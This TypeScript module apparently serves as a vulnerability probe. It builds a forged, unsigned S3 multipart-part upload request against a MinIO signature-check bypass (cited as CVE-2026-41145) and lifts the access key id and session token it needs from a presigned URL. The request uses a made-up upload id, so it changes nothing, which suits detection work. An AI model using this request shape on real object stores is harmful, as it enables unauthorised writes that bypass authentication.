import { randomBytes } from 'node:crypto';

export interface ForgeryTarget {
  /** URL of the object store, for example `http://127.0.0.1:9000`; a path in it is kept. */
  readonly endpoint: string;
  readonly region: string;
  readonly bucket: string;
  /** Prefix of the forged key. With another key, a policy that allows nothing outside the prefix would look like one that refuses forgeries. */
  readonly keyPrefix: string;
  readonly accessKeyId: string;
  /** The token of an STS session, which is visible in every URL that the session signs. */
  readonly sessionToken?: string;
  /** Date of the request, by the object store's clock. */
  readonly at: Date;
}

export interface ForgedRequest {
  readonly method: 'PUT';
  readonly url: URL;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string;
}

/** An empty body in `aws-chunked` framing, with the CRC32 of no bytes as its trailer. */
const EMPTY_CHUNKED_BODY = '0\r\nx-amz-checksum-crc32:AAAAAA==\r\n\r\n';
const LIFETIME_SECONDS = 3_600;

/**
 * Makes a PUT of part 1 of an invented multipart upload, with an invented signature. The request has the form for which the last
 * community MinIO does not check signatures (CVE-2026-41145: credentials in the query, a body declared as an unsigned stream with a
 * trailer, no Authorization header). An object store that accepts the forgery finds no such upload, so the request never changes
 * anything.
 */
export function forgePart({ endpoint, region, bucket, keyPrefix, accessKeyId, sessionToken, at }: ForgeryTarget): ForgedRequest {
  const key = `${keyPrefix}partway-forgery-${randomBytes(8).toString('hex')}`;
  const url = new URL(endpoint);
  url.pathname = `${url.pathname.replace(/\/+$/, '')}/${[bucket, ...key.split('/')].map(encodeURIComponent).join('/')}`;
  const instant = at.toISOString().replace(/[-:]|\.\d{3}/g, '');
  const query = {
    partNumber: '1',
    uploadId: randomBytes(48).toString('base64url'),
    'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
    'X-Amz-Credential': `${accessKeyId}/${instant.slice(0, 8)}/${region}/s3/aws4_request`,
    'X-Amz-Date': instant,
    'X-Amz-Expires': String(LIFETIME_SECONDS),
    ...(sessionToken === undefined ? {} : { 'X-Amz-Security-Token': sessionToken }),
    'X-Amz-SignedHeaders': 'host',
    'X-Amz-Signature': randomBytes(32).toString('hex'),
  };
  for (const [name, value] of Object.entries(query)) url.searchParams.set(name, value);
  return {
    method: 'PUT',
    url,
    headers: {
      'content-encoding': 'aws-chunked',
      'content-length': String(EMPTY_CHUNKED_BODY.length),
      'x-amz-content-sha256': 'STREAMING-UNSIGNED-PAYLOAD-TRAILER',
      'x-amz-decoded-content-length': '0',
      'x-amz-trailer': 'x-amz-checksum-crc32',
    },
    body: EMPTY_CHUNKED_BODY,
  };
}

/** Reads from a part URL what a forgery needs, all of it visible in the URL. Returns undefined without an AWS Signature Version 4. */
export function forgedPartTarget(partUrl: URL, bucket: string, keyPrefix: string): ForgeryTarget | undefined {
  const [accessKeyId, , region] = (partUrl.searchParams.get('X-Amz-Credential') ?? '').split('/');
  const at = parseInstant(partUrl.searchParams.get('X-Amz-Date') ?? '');
  const bucketAt = partUrl.pathname.indexOf(`/${encodeURIComponent(bucket)}/`);
  if (!accessKeyId || !region || at === undefined || bucketAt === -1) return undefined;
  const sessionToken = partUrl.searchParams.get('X-Amz-Security-Token');
  return {
    endpoint: partUrl.origin + partUrl.pathname.slice(0, bucketAt),
    region,
    bucket,
    keyPrefix,
    accessKeyId,
    at,
    ...(sessionToken !== null && { sessionToken }),
  };
}

/** Parses `20261130T142500Z`. */
function parseInstant(text: string): Date | undefined {
  const [, year, month, day, hour, minute, second] = /^(\d{4})(\d\d)(\d\d)T(\d\d)(\d\d)(\d\d)Z$/.exec(text) ?? [];
  const at = new Date(`${year}-${month}-${day}T${hour}:${minute}:${second}Z`);
  return Number.isNaN(at.getTime()) ? undefined : at;
}
